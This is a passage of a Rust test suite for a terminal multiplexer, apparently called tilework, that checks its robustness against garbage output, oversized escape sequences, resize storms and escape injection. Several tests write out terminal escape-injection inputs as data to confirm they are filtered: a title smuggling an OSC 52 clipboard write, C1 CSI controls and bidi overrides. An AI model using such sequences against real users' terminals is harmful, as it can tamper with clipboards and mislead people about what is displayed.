//! Robustness and security (issue 5): garbage output, escape injection,
//! resize storms, hostile children, every exit path, bad configuration,
//! nothing lost under backpressure.
//!
//! Two kinds of test: `Pane::detached` runs the real pane pipeline (parser
//! with query callbacks, byte ring, history replay) with no PTY, for inputs
//! too large or too precise to push through a terminal; the rest run the
//! real binary in a PTY (tests/common) and look at what a user would see:
//! the screen, the bytes that reach their terminal, the processes left in
//! /proc, the exit status.
//!
//! Memory bounds are stated where they are checked, with the arithmetic.

#![allow(clippy::unwrap_used)] // a failed unwrap is a failed test

mod common;

use std::time::Duration;

use common::{SplitMix, TempDir, Tilework};
use crossbeam_channel::{Receiver, Sender, bounded};
use nix::sys::signal::Signal;
use ratatui::buffer::Buffer;
use ratatui::layout::Rect;
use ratatui::widgets::Widget;
use tilework::app::loop_event::LOOP_EVENT_CAPACITY;
use tilework::pane::Pane;
use tilework::pane::PaneId;
use tilework::pane::event::PaneEvent;
use tilework::render::pane_view::PaneWidget;

const ROWS: u16 = 24;
const COLS: u16 = 80;
/// The default scrollback budget (config `scrollback = "8MiB"`).
const DEFAULT_BUDGET: usize = 8 * 1024 * 1024;
const MIB: u64 = 1024;

// ---------------------------------------------------------------------------
// Garbage output, on the pane pipeline without a PTY
// ---------------------------------------------------------------------------

fn feed(pane: &mut Pane, bytes: &[u8]) {
    // The reader hands the loop at most 64 KiB at a time.
    for chunk in bytes.chunks(64 * 1024) {
        pane.feed(chunk.to_vec());
    }
    // As the render loop does before it draws.
    pane.settle();
}

/// Scrolls back and waits for the replay, as the render loop would.
fn scroll_back(pane: &mut Pane, rows: isize, tx: &Sender<PaneEvent>, rx: &Receiver<PaneEvent>) {
    pane.history_mut().scroll(rows, &tx.clone().into());
    if !matches!(
        pane.history().view(),
        tilework::pane::ScrollView::Loading { .. }
    ) {
        return;
    }
    // However long the replay takes on a loaded machine, as long as its
    // thread works.
    match common::progress::recv_from_threads(rx, "history-replay", Duration::from_secs(300)) {
        Ok(PaneEvent::HistoryReady(id, history)) => {
            assert_eq!(id, pane.id);
            pane.history_mut().history_ready(history);
        }
        Ok(PaneEvent::Exited(..)) => panic!("the pane exited"),
        Ok(PaneEvent::HistoryFile(..)) => panic!("a history file nobody asked for"),
        Err(err) => panic!("no history replay arrived: {err}"),
    }
}

/// Renders the pane's screen into a buffer of exactly its size.
fn render(pane: &Pane) -> Buffer {
    let (rows, cols) = pane.term().size();
    let area = Rect::new(0, 0, cols, rows);
    let mut buf = Buffer::empty(area);
    PaneWidget::new(pane.screen()).render(area, &mut buf);
    buf
}

fn buffer_row(buf: &Buffer, y: u16) -> String {
    (0..buf.area.width)
        .map(|x| buf[(x, y)].symbol().to_string())
        .collect()
}

/// The pane works again after a reset: `ESC c` then text shows that text at
/// the top left, in the parser and in what would be drawn.
fn assert_recovers(pane: &mut Pane, what: &str) {
    pane.history_mut().scroll_to_bottom();
    feed(pane, b"\x1bcok-after-garbage");
    let first = pane
        .screen()
        .contents_between(0, 0, 0, pane.term().size().1);
    assert!(
        first.starts_with("ok-after") || pane.term().size().1 < 10,
        "after {what}: first row is {first:?}"
    );
    let buf = render(pane);
    let row = buffer_row(&buf, 0);
    assert!(
        row.starts_with(&"ok-after-garbage"[..usize::from(pane.term().size().1).min(16)]),
        "after {what}: drawn first row is {row:?}"
    );
    assert!(
        pane.history().bytes() <= DEFAULT_BUDGET,
        "after {what}: history holds {} bytes, over the {DEFAULT_BUDGET} budget",
        pane.history().bytes()
    );
}

#[test]
fn twenty_megabytes_of_random_bytes_leave_a_working_pane_and_bounded_history() {
    let mut pane = Pane::detached(PaneId(1), ROWS, COLS, DEFAULT_BUDGET);
    let (tx, rx) = bounded(LOOP_EVENT_CAPACITY);
    let mut rng = SplitMix(0x5eed_0005);
    let sizes = [(24, 80), (1, 1), (50, 200), (2, 3), (24, 80)];
    for (i, &(rows, cols)) in sizes.iter().enumerate() {
        // 4 MB at each size: the parser, the reflow of the screen from the
        // ring and the replay all see size changes in the middle of garbage.
        feed(&mut pane, &rng.bytes(4_000_000));
        pane.resize(rows, cols);
        assert!(pane.history().bytes() <= DEFAULT_BUDGET, "chunk {i}");
        render(&pane);
    }
    // The history replay of 8 MiB of garbage must not panic either.
    scroll_back(&mut pane, 30, &tx, &rx);
    assert!(pane.history().is_scrolled());
    render(&pane);
    scroll_back(&mut pane, isize::MAX / 2, &tx, &rx);
    render(&pane);
    assert_recovers(&mut pane, "20 MB of random bytes");
}

#[test]
fn invalid_utf8_and_truncated_sequences_leave_a_working_pane() {
    let mut pane = Pane::detached(PaneId(1), ROWS, COLS, DEFAULT_BUDGET);
    let cases: &[(&str, &[u8])] = &[
        ("lone continuation bytes", b"\x80\x81\xbf\xbe"),
        (
            "overlong encodings",
            b"\xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf",
        ),
        ("surrogates", b"\xed\xa0\x80\xed\xbf\xbf"),
        ("beyond U+10FFFF", b"\xf4\x90\x80\x80\xf8\x88\x80\x80\x80"),
        ("truncated 4-byte char", b"\xf0\x9f\x98"),
        ("truncated char then ESC", b"\xe2\x82\x1b[31m"),
        ("ESC at the end", b"\x1b"),
        ("CSI without a final byte", b"\x1b[1;2;3"),
        ("CSI with many intermediates", b"\x1b[ !\"#$%&'()*+,-./m"),
        ("OSC cut by ESC", b"\x1b]0;title\x1b"),
        ("DCS cut short", b"\x1bP1$r"),
        ("APC/PM/SOS", b"\x1b_apc\x1b^pm\x1bXsos"),
        ("C1 controls as bytes", b"\x9b31m\x9d0;t\x07\x90q\x9c"),
        ("C1 controls as UTF-8", "\u{9b}31m\u{9d}0;t\u{7}".as_bytes()),
        ("NUL and DEL", b"\x00\x7f\x00\x7f"),
    ];
    for (what, bytes) in cases {
        feed(&mut pane, bytes);
        render(&pane);
        assert_recovers(&mut pane, what);
    }
}

#[test]
fn huge_and_unterminated_sequences_leave_a_working_pane() {
    let mut pane = Pane::detached(PaneId(1), ROWS, COLS, DEFAULT_BUDGET);
    let ten_mb = 10 * 1024 * 1024;

    // An OSC that never ends: 10 MB of title.
    let mut osc = b"\x1b]2;".to_vec();
    osc.resize(osc.len() + ten_mb, b'a');
    feed(&mut pane, &osc);
    render(&pane);
    assert_recovers(&mut pane, "an unterminated 10 MB OSC");
    assert!(
        pane.title().chars().count() <= 256,
        "a title of {} chars was kept",
        pane.title().chars().count()
    );

    // A terminated 10 MB title: kept only up to what a border can show.
    let mut osc = b"\x1b]2;".to_vec();
    osc.resize(osc.len() + ten_mb, b'b');
    osc.push(0x07);
    feed(&mut pane, &osc);
    assert!(pane.title().chars().count() <= 256);
    assert_recovers(&mut pane, "a 10 MB OSC title");

    // A 10 MB DCS (sixel-like payload), unterminated.
    let mut dcs = b"\x1bP0;1;0q".to_vec();
    dcs.extend(std::iter::repeat_n(b"#0;2;0;0;0~-".iter().copied(), ten_mb / 12).flatten());
    feed(&mut pane, &dcs);
    render(&pane);
    assert_recovers(&mut pane, "an unterminated 10 MB DCS");

    // A 1 MB line, in one piece and then in a wrapping pane resized narrow.
    let line = vec![b'x'; 1024 * 1024];
    feed(&mut pane, &line);
    feed(&mut pane, b"\r\n");
    pane.resize(5, 7);
    feed(&mut pane, &line);
    pane.resize(ROWS, COLS);
    render(&pane);
    assert_recovers(&mut pane, "1 MB lines");

    // Very many combining marks on one base character: a cell keeps a
    // bounded number of code points.
    let mut marks = b"e".to_vec();
    for _ in 0..500_000 {
        marks.extend_from_slice("\u{301}".as_bytes());
    }
    feed(&mut pane, &marks);
    let cell = pane.screen().cell(0, 0).unwrap().contents().len();
    assert!(cell <= 64, "one cell holds {cell} bytes");
    render(&pane);
    assert_recovers(&mut pane, "500,000 combining marks");
}

#[test]
fn cursor_moves_and_counts_far_out_of_range_are_clamped() {
    let mut pane = Pane::detached(PaneId(1), ROWS, COLS, DEFAULT_BUDGET);
    let mut hostile = Vec::new();
    for final_byte in [
        "H", "f", "A", "B", "C", "D", "E", "F", "G", "d", "@", "L", "M", "P", "X", "S", "T", "I",
        "Z", "b", "J", "K", "r", "`", "a", "e",
    ] {
        for params in ["99999", "99999;99999", "65535;65535", "4294967296;1", "0;0"] {
            hostile.extend_from_slice(format!("\x1b[{params}{final_byte}x").as_bytes());
        }
    }
    // Private modes and window operations with absurd numbers.
    hostile.extend_from_slice(b"\x1b[?99999h\x1b[?99999l\x1b[8;99999;99999t\x1b[3;99999;99999t");
    // Colours out of range.
    hostile.extend_from_slice(b"\x1b[38;5;99999m\x1b[48;2;999;999;999mX\x1b[m");
    // A CSI with 100,000 parameters.
    hostile.extend_from_slice(b"\x1b[");
    for _ in 0..100_000 {
        hostile.extend_from_slice(b"1;");
    }
    hostile.extend_from_slice(b"m");
    // Wide characters at the right edge of a 2-column pane.
    feed(&mut pane, &hostile);
    render(&pane);
    pane.resize(2, 2);
    feed(&mut pane, "日本語🚀\x1b[99999C日".as_bytes());
    feed(&mut pane, &hostile);
    render(&pane);
    pane.resize(ROWS, COLS);
    // The cursor is still on the screen.
    let (row, col) = pane.screen().cursor_position();
    assert!(row < ROWS && col <= COLS, "cursor at {row},{col}");
    assert_recovers(&mut pane, "cursor moves far out of range");
}

/// The parser panics on this in a debug build (see `parse_guard`): what the
/// containment is tested with.
const PARSER_CRASH: &[u8] = tilework::pane::term::parse_guard::DEBUG_FAULT;
const RESET_NOTICE: &str =
    "tilework: the terminal parser failed on this output; the screen was reset";

#[test]
fn a_parser_panic_resets_the_pane_and_its_history_instead_of_ending_the_workspace() {
    let mut pane = Pane::detached(PaneId(1), ROWS, COLS, DEFAULT_BUDGET);
    let (tx, rx) = bounded(LOOP_EVENT_CAPACITY);
    // The control: the bytes do make the parser panic.
    let mut bare = vt100::Parser::new(
        std::num::NonZeroU16::new(ROWS).unwrap(),
        std::num::NonZeroU16::new(COLS).unwrap(),
        0,
    );
    assert!(tilework::pane::term::parse_guard::process(&mut bare, PARSER_CRASH).is_err());

    feed(&mut pane, &seq_bytes(100));
    feed(&mut pane, PARSER_CRASH);
    feed(&mut pane, b"after the reset\r\n");
    let screen = pane.screen().contents();
    assert!(
        screen.starts_with(&format!("{RESET_NOTICE}\nafter the reset")),
        "{screen}"
    );
    let buf = render(&pane);
    assert_eq!(buffer_row(&buf, 0).trim_end(), RESET_NOTICE);

    // The history replay (a worker thread) parses the same bytes: it
    // arrives, starting over where the parser failed.
    feed(&mut pane, &seq_bytes(2000));
    scroll_back(&mut pane, 30, &tx, &rx);
    assert!(
        pane.history().window().is_some(),
        "the history never arrived"
    );
    scroll_back(&mut pane, isize::MAX / 2, &tx, &rx);
    assert!(pane.screen().contents().starts_with(RESET_NOTICE));
    render(&pane);

    // While the history is open, both it and the live screen get the
    // bytes, on this thread.
    feed(&mut pane, PARSER_CRASH);
    render(&pane);
    pane.history_mut().scroll_to_bottom();
    assert!(pane.screen().contents().starts_with(RESET_NOTICE));
    assert_recovers(&mut pane, "a parser panic");
}

/// Peak resident memory of tilework stays under this. What tilework holds
/// for one pane by design: the 8 MiB scrollback ring, up to 1 MiB of output
/// in the reader channel (16 x 64 KiB), the 1 MiB frame buffer, the parser
/// grid (~80 KB) and a debug binary's own ~20 MiB. 64 MiB leaves room for
/// allocator slack while still catching anything that keeps a copy of the
/// 20 MB of input (or of one 10+ MB sequence).
const ONE_PANE_RSS_BOUND_MIB: u64 = 64;

/// The garbage goes through in pieces of this many bytes (100 of them)...
const GARBAGE_PIECE: usize = 200_000;
/// ...and the test fails once none went through for this long (one piece
/// takes well under a second on a quiet machine).
const GARBAGE_STALL: Duration = Duration::from_secs(60);

#[test]
fn random_bytes_through_a_real_pane_leave_it_working_and_memory_bounded() {
    let dir = TempDir::new("garbage");
    // The same 20 MB in pieces, printed one after the other (the pane gets
    // the same bytes), each piece's number written down once it is all
    // written: how far the pane has read.
    let garbage = SplitMix(0x0bad_f00d).bytes(20_000_000);
    for (i, piece) in garbage.chunks(GARBAGE_PIECE).enumerate() {
        std::fs::write(dir.path().join(format!("garbage-{i:03}.bin")), piece).unwrap();
    }
    let done = dir.path().join("pieces-done");
    let (sleep, sleep_pattern) = common::unique_sleep();
    let _cleanup = common::Cleanup(vec![sleep_pattern.clone()]);
    // -echo: the garbage contains queries tilework answers; their replies go
    // to the pane's input and must not be echoed over the marker.
    let script = format!(
        "stty -echo; for f in '{dir}'/garbage-*.bin; do cat \"$f\"; echo \"$f\" > '{done}'; done; \
         printf '\\033c'; echo garbage-done-$((6*7)); exec {sleep}",
        dir = dir.path().display(),
        done = done.display()
    );
    let mut tw = Tilework::start(&["-c", &script], ROWS, COLS);
    // However long it takes on a loaded machine, as long as pieces go
    // through.
    tw.wait_for_while_progressing(
        "the marker at the top left of the pane after the reset",
        GARBAGE_STALL,
        || std::fs::read_to_string(&done).unwrap_or_default(),
        |s| {
            s.contents_between(1, 1, 1, COLS - 1)
                .starts_with("garbage-done-42")
        },
    );
    let pid = tw.workspace_pid();
    let peak = common::proc_status_kib(pid, "VmHWM").unwrap();
    eprintln!("tilework peak RSS after 20 MB of garbage: {peak} KiB");
    assert!(
        peak < ONE_PANE_RSS_BOUND_MIB * MIB,
        "peak RSS {peak} KiB after 20 MB of garbage (bound {ONE_PANE_RSS_BOUND_MIB} MiB)"
    );
    // The workspace itself still answers: help opens.
    tw.send("\x02?");
    tw.wait_for_text("tilework keys");
    tw.send("\x02Q");
    assert_eq!(tw.wait_exit().exit_code(), 0);
    tw.assert_terminal_restored();
    common::wait_until("the pane's program to be gone", || {
        common::pids_matching(&sleep_pattern, &[pid]).is_empty()
    });
}

/// Invalid UTF-8 and a program's own U+FFFD take one cell each on the
/// test's terminal, as on a real one, and what follows them is where the
/// pane shows it (issue 30: the terminal here, vt100, used to drop U+FFFD,
/// so the cells drawn after one in the same run landed a column to the
/// left; whichever of those no later frame changed stayed wrong, and the
/// garbage test above saw its marker drawn as `garbage-done/42` among
/// stray cells, depending on which frames were drawn).
#[test]
fn replacement_characters_take_one_cell_on_the_test_terminal() {
    let (sleep, sleep_pattern) = common::unique_sleep();
    let _cleanup = common::Cleanup(vec![sleep_pattern.clone()]);
    let script = format!("printf 'a\\377b\\357\\277\\275c-%s\\n' $((6*7)); exec {sleep}");
    let mut tw = Tilework::start(&["-c", &script], ROWS, COLS);
    tw.wait_for_text("c-42");
    assert_eq!(
        (
            tw.row_text(1, 1, 2),
            tw.row_text(1, 3, 4),
            tw.row_text(1, 5, 9)
        ),
        ("a".into(), "b".into(), "c-42".into()),
        "{}",
        tw.screen_text()
    );
    tw.send("\x02Q");
    assert_eq!(tw.wait_exit().exit_code(), 0);
}

#[test]
fn an_endless_osc_does_not_grow_memory_without_bound() {
    // 150 MB of OSC payload with no terminator until the end. A terminal
    // only needs the first few hundred bytes of a title; keeping them all
    // lets any program (or a `cat` of a hostile file) exhaust memory.
    let (sleep, sleep_pattern) = common::unique_sleep();
    let _cleanup = common::Cleanup(vec![sleep_pattern.clone()]);
    let script = format!(
        "stty -echo; printf '\\033]2;'; head -c 150000000 /dev/zero | tr '\\0' a; \
         printf '\\007\\033c'; echo osc-done-$((6*7)); exec {sleep}"
    );
    let mut tw = Tilework::start(&["-c", &script], ROWS, COLS);
    let pid = tw.workspace_pid();
    tw.wait_for_while_programs_write("the marker after the OSC", |s| {
        s.contents_between(1, 1, 1, COLS - 1)
            .starts_with("osc-done-42")
    });
    let peak = common::proc_status_kib(pid, "VmHWM").unwrap();
    assert!(
        peak < ONE_PANE_RSS_BOUND_MIB * MIB,
        "peak RSS {peak} KiB after a 150 MB OSC (bound {ONE_PANE_RSS_BOUND_MIB} MiB)"
    );
    tw.send("\x02Q");
    assert_eq!(tw.wait_exit().exit_code(), 0);
    common::wait_until("the pane's program to be gone", || {
        common::pids_matching(&sleep_pattern, &[pid]).is_empty()
    });
}

#[test]
fn scrolling_to_the_top_of_a_full_history_keeps_memory_near_the_budget() {
    // `yes ''` for a moment fills the ring with empty lines: 2 bytes a row.
    // Each replayed row costs 32 bytes a column in vt100, so the history of
    // an 8 MiB ring of empty lines at 80 columns would need 10 GiB. Here a
    // 128 KiB budget: 64 Ki rows x 80 x 32 B = 160 MiB for 128 KiB of output.
    let budget = 128 * 1024;
    let mut pane = Pane::detached(PaneId(1), ROWS, COLS, budget);
    let (tx, rx) = bounded(LOOP_EVENT_CAPACITY);
    feed(&mut pane, &b"\r\n".repeat(budget));
    // Scroll back to the oldest line, as the wheel does: each step past
    // the rows loaded replays the next window, and only one is held.
    scroll_back(&mut pane, isize::MAX / 2, &tx, &rx);
    let history = pane.history().window().unwrap();
    assert!(history.at_top && history.top_row() == 0, "not at the top");
    let held = history.len();
    // A window aims at 2,000 rows; its ends are snapped out to line starts
    // at most 1 KiB away (512 rows of empty lines each side).
    let bound = tilework::pane::history::anchors::WINDOW_ROWS + 2 * 512 + usize::from(ROWS);
    assert!(
        held <= bound,
        "{held} history rows ({} MiB of cells) held at once",
        (held * usize::from(COLS) * 32) >> 20
    );
}

// ---------------------------------------------------------------------------
// Escape injection
// ---------------------------------------------------------------------------

/// A pane running `script` (with `sh -c`) whose program stays alive after it.
fn start_script(script: &str, config: Option<&str>) -> (Tilework, String, TempDir) {
    let cfg_dir = TempDir::new("cfg");
    let (sleep, sleep_pattern) = common::unique_sleep();
    let script = format!("{script}; exec {sleep}");
    let mut args: Vec<String> = Vec::new();
    if let Some(text) = config {
        let path = cfg_dir.path().join("config.toml");
        std::fs::write(&path, text).unwrap();
        args.push("--config".into());
        args.push(path.to_string_lossy().into_owned());
    }
    args.push("-c".into());
    args.push(script);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    (Tilework::start(&args, ROWS, COLS), sleep_pattern, cfg_dir)
}

fn quit_and_reap(mut tw: Tilework, sleep_pattern: &str) {
    let pid = tw.pid().unwrap();
    tw.send("\x02Q");
    assert_eq!(tw.wait_exit().exit_code(), 0);
    common::wait_until("the pane's program to be gone", || {
        common::pids_matching(sleep_pattern, &[pid]).is_empty()
    });
}

/// Calls `f` with the number and payload of every OSC in `raw` (ended by
/// BEL, ST or the end of the data).
fn for_each_osc(raw: &[u8], mut f: impl FnMut(&str, &[u8])) {
    let mut rest = raw;
    while let Some(start) = rest.windows(2).position(|w| w == b"\x1b]") {
        rest = &rest[start + 2..];
        let end = rest
            .iter()
            .position(|&b| b == 0x07 || b == 0x1b)
            .unwrap_or(rest.len());
        let body = &rest[..end];
        let (number, payload) = match body.iter().position(|&b| b == b';') {
            Some(i) => (&body[..i], &body[i + 1..]),
            None => (body, &body[body.len()..]),
        };
        f(&String::from_utf8_lossy(number), payload);
        rest = &rest[end..];
    }
}

#[test]
fn titles_reach_the_border_only_as_sanitized_text() {
    // 1. A title that tries to smuggle an OSC 52 clipboard write.
    // 2. A title with an erase-display sequence inside.
    // 3. A title with a C1 CSI (UTF-8 encoded) and a right-to-left override,
    //    which must be drawn with both removed.
    let script = r"printf '\033]2;\033]52;c;aGk=\007\007'; \
        printf '\033]2;x\033[2J\007'; \
        printf '\033]0;TT\302\23331m\342\200\256evil\007'; echo titles-done-$((6*7))";
    let (tw, sleep_pattern, _cfg) = start_script(script, None);
    let _cleanup = common::Cleanup(vec![sleep_pattern.clone()]);
    tw.wait_for_text("titles-done-42");
    tw.wait_for("the sanitized title in the border", |s| {
        s.contents_between(0, 0, 0, COLS).contains("TT31mevil")
    });
    let raw = tw.raw_tail();
    for (needle, what) in [
        (&b"\x1b]52"[..], "a clipboard write reached the terminal"),
        (b"\xc2\x9b", "a C1 CSI reached the terminal"),
        (
            b"\xe2\x80\xae",
            "a right-to-left override reached the terminal",
        ),
    ] {
        assert!(!raw.windows(needle.len()).any(|w| w == needle), "{what}");
    }
    // tilework sets no title of its own today; if it ever passes titles on
    // to the user's terminal, they must arrive as plain text.
    for_each_osc(&raw, |number, payload| {
        // At start tilework asks the terminal for its colours (issue 12).
        if matches!(number, "10" | "11" | "12") && payload == b"?" {
            return;
        }
        assert!(
            matches!(number, "0" | "1" | "2"),
            "tilework wrote OSC {number}"
        );
        assert!(
            !String::from_utf8_lossy(payload)
                .chars()
                .any(char::is_control),
            "a title with control characters reached the terminal: {payload:?}"
        );
    });
    quit_and_reap(tw, &sleep_pattern);
}

#[test]
fn pane_text_cannot_carry_c1_controls_or_bidi_overrides_to_the_terminal() {
    // Text, not a title: U+009B is CSI for terminals that honour UTF-8 C1
    // controls, U+202E reverses the rest of the line in bidi terminals.
    let script =
        r"printf 'left\302\2332Jright\n'; printf 'abc\342\200\256fed\n'; echo text-done-$((6*7))";
    let (tw, sleep_pattern, _cfg) = start_script(script, None);
    let _cleanup = common::Cleanup(vec![sleep_pattern.clone()]);
    tw.wait_for_text("text-done-42");
    let raw = tw.raw_tail();
    assert!(
        !raw.windows(2).any(|w| w == b"\xc2\x9b"),
        "a C1 CSI in pane text reached the terminal"
    );
    assert!(
        !raw.windows(3).any(|w| w == b"\xe2\x80\xae"),
        "a right-to-left override in pane text reached the terminal"
    );
    quit_and_reap(tw, &sleep_pattern);
}

#[test]
fn clipboard_writes_from_programs_are_refused_by_default() {
    let (tw, sleep_pattern, _cfg) = start_script(
        r"printf '\033]52;c;aGVsbG8=\007'; echo clip-done-$((6*7))",
        None,
    );
    let _cleanup = common::Cleanup(vec![sleep_pattern.clone()]);
    // The write is parsed before the marker, so it would have gone out with
    // the marker's frame at the latest.
    tw.wait_for_text("clip-done-42");
    assert!(
        !tw.raw_contains(b"\x1b]52"),
        "an OSC 52 write reached the terminal with the default config"
    );
    quit_and_reap(tw, &sleep_pattern);
}

#[test]
fn clipboard_writes_pass_when_the_config_allows_them() {
    let (tw, sleep_pattern, _cfg) = start_script(
        r"printf '\033]52;c;aGVsbG8=\007'; echo clip-done-$((6*7))",
        Some("clipboard_from_programs = true\n"),
    );
    let _cleanup = common::Cleanup(vec![sleep_pattern.clone()]);
    tw.wait_for_text("clip-done-42");
    tw.wait_for_raw(b"\x1b]52;c;aGVsbG8=\x07");
    quit_and_reap(tw, &sleep_pattern);
}

#[test]
fn clipboard_reads_are_never_answered() {
    // A cursor position query first proves the method: tilework answers it,
    // so the program reads a reply. The clipboard query must get nothing,
    // with the default config and with writes allowed.
    for config in [None, Some("clipboard_from_programs = true\n")] {
        let script = r#"stty -echo -icanon; printf '\033[6n'; IFS= read -r -d R -t 10 a; echo "cpr:${#a}"; printf '\033]52;c;?\007'; IFS= read -r -d '' -t 2 b; echo "clip:${#b}""#;
        let cfg_dir = TempDir::new("cfg");
        let (sleep, sleep_pattern) = common::unique_sleep();
        let _cleanup = common::Cleanup(vec![sleep_pattern.clone()]);
        let mut args = vec![];
        let path = cfg_dir.path().join("config.toml");
        if let Some(text) = config {
            std::fs::write(&path, text).unwrap();
            args.push("--config".to_string());
            args.push(path.to_string_lossy().into_owned());
        }
        args.extend([
            "--".to_string(),
            "bash".to_string(),
            "-c".to_string(),
            format!("{script}; exec {sleep}"),
        ]);
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let tw = Tilework::start(&args, ROWS, COLS);
        // The command line is in the border and the status bar too: wait
        // for the printed number, which only the output has.
        tw.wait_for("the clipboard read's result", |s| {
            let c = s.contents();
            c.match_indices("clip:")
                .any(|(i, _)| c[i + 5..].starts_with(|ch: char| ch.is_ascii_digit()))
        });
        let text = tw.screen_text();
        assert!(text.contains("cpr:5"), "the CPR control failed: {text}");
        assert!(
            text.contains("clip:0"),
            "a clipboard read was answered: {text}"
        );
        assert!(
            !tw.raw_contains(b"\x1b]52"),
            "the clipboard query reached the terminal"
        );
        quit_and_reap(tw, &sleep_pattern);
    }
}

// ---------------------------------------------------------------------------
// Resize storms
// ---------------------------------------------------------------------------

/// A pane's box on screen, by its border's corner characters: rows and
/// columns of the border itself (top, left, bottom, right).
fn find_box(s: &vt100::Screen, corners: [&str; 3]) -> Option<(u16, u16, u16, u16)> {
    let [top_left, top_right, bottom_left] = corners;
    let (rows, cols) = s.size();
    let (rows, cols) = (rows.get(), cols.get());
    let at = |r: u16, c: u16| {
        s.cell(r, c)
            .map(|c| c.contents().to_string())
            .unwrap_or_default()
    };
    for top in 0..rows {
        for left in 0..cols {
            if at(top, left) == top_left {
                let right = (left + 1..cols).find(|&c| at(top, c) == top_right)?;
                let bottom = (top + 1..rows).find(|&r| at(r, left) == bottom_left)?;
                return Some((top, left, bottom, right));
            }
        }
    }
    None
}

/// The focused pane's box (thick border).
fn focused_box(s: &vt100::Screen) -> Option<(u16, u16, u16, u16)> {
    find_box(s, ["┏", "┓", "┗"])
}

/// The first unfocused pane's box (plain border).
fn unfocused_box(s: &vt100::Screen) -> Option<(u16, u16, u16, u16)> {
    find_box(s, ["┌", "┐", "└"])
}

/// "size=R C" printed by `echo size=$(stty size)`.
fn printed_size(text: &str) -> Option<(u16, u16)> {
    text.match_indices("size=").find_map(|(i, _)| {
        let mut words = text[i + 5..].split_whitespace();
        let rows = words.next()?.parse().ok()?;
        let cols = words.next()?.parse().ok()?;
        Some((rows, cols))
    })
}

/// Whether the two panes' boxes fill the whole pane area of a `rows` x
/// `cols` terminal, edges unbroken, with the status bar below: a frame
/// drawn whole at that size. (A frame drawn for a smaller size cannot put
/// a border on the last column or the row above the status bar.)
fn boxes_fill_the_screen(s: &vt100::Screen, rows: u16, cols: u16) -> bool {
    let (Some(focused), Some(other)) = (focused_box(s), unfocused_box(s)) else {
        return false;
    };
    let drawn = |r: u16, c: u16| {
        s.cell(r, c)
            .is_some_and(|c| !c.contents().trim().is_empty())
    };
    // The top border holds the title (with spaces): the other three
    // borders are drawn in every cell.
    let whole = |(top, left, bottom, right): (u16, u16, u16, u16)| {
        top == 0
            && bottom == rows - 2
            && (top..=bottom).all(|r| drawn(r, left) && drawn(r, right))
            && (left..=right).all(|c| drawn(bottom, c))
    };
    let status_bar = s.contents_between(rows - 1, 0, rows - 1, cols);
    whole(focused)
        && whole(other)
        && focused.1.min(other.1) == 0
        && focused.3.max(other.3) == cols - 1
        && !status_bar.trim().is_empty()
}

/// The size the kernel holds for the terminal of the process `pid`'s
/// stdout (a pane's PTY, as its program sees it): (rows, cols).
fn pty_size_of(pid: u32) -> Option<(u16, u16)> {
    let tty = std::fs::File::open(format!("/proc/{pid}/fd/1")).ok()?;
    let size = rustix::termios::tcgetwinsize(&tty).ok()?;
    Some((size.ws_row, size.ws_col))
}

/// The storm's sizes stay within this; the final size is larger in both
/// directions, so only a frame drawn for it reaches the screen's last row
/// and column.
const STORM_MAX: (u16, u16) = (60, 200);

#[test]
fn a_resize_storm_with_output_flowing_ends_with_matching_sizes() {
    let (sleep, sleep_pattern) = common::unique_sleep();
    let _cleanup = common::Cleanup(vec![sleep_pattern.clone()]);
    // Its own text: the flood's process is found by it (other copies of
    // this test may run beside).
    let word = format!("tilework-storm-{}", sleep.trim_start_matches("sleep "));
    let flood = format!("yes {word}");
    let flood_pattern = format!("^{flood}$");
    let _cleanup2 = common::Cleanup(vec![flood_pattern.clone()]);
    let mut tw = Tilework::start(
        &["-c", &format!("{sleep} & exec sh"), "-c", &flood],
        ROWS,
        COLS,
    );
    tw.wait_for("a prompt and the flood", |s| {
        let c = s.contents();
        c.contains("$ ") && c.contains(&word)
    });
    // 1,000 resizes as fast as the outer terminal takes them, through tiny
    // sizes (1x1, 2x2, one row, one column) and back.
    let mut rng = SplitMix(0x5707_2a11);
    let (max_rows, max_cols) = STORM_MAX;
    for i in 0..1000u32 {
        let (rows, cols) = match i % 100 {
            0 => (1, 1),
            25 => (2, 2),
            50 => (1, 120),
            75 => (max_rows, 1),
            _ => (
                1 + (rng.next() % u64::from(max_rows)) as u16,
                1 + (rng.next() % u64::from(max_cols)) as u16,
            ),
        };
        tw.resize(rows, cols);
        assert!(tw.try_exit().is_none(), "tilework died during the storm");
    }
    let (rows, cols) = (max_rows + 2, max_cols + 2);
    tw.resize(rows, cols);
    // The last size wins: the frame is drawn whole for it, and the flood
    // pane's screen is intact (full lines of the flood text once the flood
    // has rewritten the pane at that size).
    tw.wait_for("the frame drawn whole at the final size", |s| {
        boxes_fill_the_screen(s, rows, cols)
    });
    // The flood's box as that screen shows it (a frame still arriving may
    // show no box yet).
    let mut flood_box = None;
    tw.wait_for("the flood pane drawn at the final size", |s| {
        let Some((top, left, bottom, right)) = unfocused_box(s) else {
            return false;
        };
        flood_box = Some((top, left, bottom, right));
        // Every content row but the last, where `yes` may be mid-line.
        let flood_rows: Vec<String> = (top + 1..bottom - 1)
            .map(|r| s.contents_between(r, left + 1, r, right))
            .collect();
        flood_rows.len() >= 10 && flood_rows.iter().all(|r| r.trim_end() == word)
    });
    // Every pane's PTY has the size of its box: the flood's, read from the
    // kernel, and the shell's, as the shell itself reports it.
    let pid = tw.pid().unwrap();
    let flood_box = flood_box.unwrap();
    let inner =
        |(top, left, bottom, right): (u16, u16, u16, u16)| (bottom - top - 1, right - left - 1);
    let flood_pids = common::pids_matching(&flood_pattern, &[pid]);
    assert_eq!(flood_pids.len(), 1, "one flood: {flood_pids:?}");
    assert_eq!(
        pty_size_of(flood_pids[0]),
        Some(inner(flood_box)),
        "the flood pane's PTY size differs from its box"
    );
    tw.type_line("echo size=$(stty size)");
    // The size and the box from one screen read whole: a frame still
    // arriving (the flood draws many) may show neither yet.
    let mut seen = None;
    tw.wait_for("the shell's PTY size beside its box", |s| {
        let text = s.contents();
        seen = printed_size(&text)
            .zip(focused_box(s))
            .map(|(p, b)| (p, b, text));
        seen.is_some()
    });
    let (printed, pane_box, text) = seen.unwrap();
    assert_eq!(
        printed,
        inner(pane_box),
        "the PTY size differs from the pane drawn on screen:\n{text}"
    );
    tw.send("\x02Q");
    assert_eq!(tw.wait_exit().exit_code(), 0);
    tw.assert_terminal_restored();
    common::wait_until("the panes' programs to be gone", || {
        common::pids_matching(&sleep_pattern, &[pid]).is_empty()
